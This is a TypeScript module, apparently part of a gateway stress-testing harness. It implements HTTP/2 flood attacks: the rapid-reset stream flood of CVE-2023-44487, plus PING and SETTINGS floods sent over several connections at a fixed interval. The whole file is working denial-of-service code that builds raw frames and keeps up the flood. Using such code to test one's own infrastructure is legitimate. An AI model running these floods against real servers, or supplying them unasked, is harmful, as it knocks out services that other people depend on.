// SPDX-License-Identifier: Apache-2.0
// Frames of HTTP/2 that cost the sender nothing: streams that are reset at once (CVE-2023-44487), and pings.
import { type AttackOptions, dial, frame, headerBlock, holding, PREFACE, type StartAttack, several } from './attack.ts';

const EVERY = 100;

const flood =
  (round: (path: string, each: number, first: number) => Buffer): StartAttack =>
  async (gateway, { connections = 5, each = 100, path = '/' }: AttackOptions = {}) => {
    const sockets = await several(connections, async () => {
      const socket = await dial(gateway, 'h2');
      socket.on('data', () => undefined);
      socket.write(PREFACE);
      // Its own SETTINGS are owed an acknowledgement.
      socket.write(frame(0x4, 0x1, 0));
      return socket;
    });
    let next = 1;
    const timer = setInterval(() => {
      const bytes = round(path, each, next);
      next += 2 * each;
      for (const socket of sockets) if (!socket.destroyed && socket.writableLength < 1_000_000) socket.write(bytes);
    }, EVERY);
    return holding(sockets, () => clearInterval(timer));
  };

/** `each` in a tenth of a second, on each connection. */
export const resetFlood = flood((path, each, first) => {
  const block = headerBlock('GET', path, 'gateway');
  const cancel = Buffer.from([0, 0, 0, 8]);
  return Buffer.concat(
    Array.from({ length: each }, (_, i) => [
      frame(0x1, 0x5, first + 2 * i, block),
      frame(0x3, 0, first + 2 * i, cancel),
    ]).flat(),
  );
});

export const pingFlood = flood((_path, each) =>
  Buffer.concat(Array.from({ length: each }, () => frame(0x6, 0, 0, Buffer.alloc(8)))),
);

export const settingsFlood = flood((_path, each) =>
  Buffer.concat(Array.from({ length: each }, () => frame(0x4, 0, 0))),
);
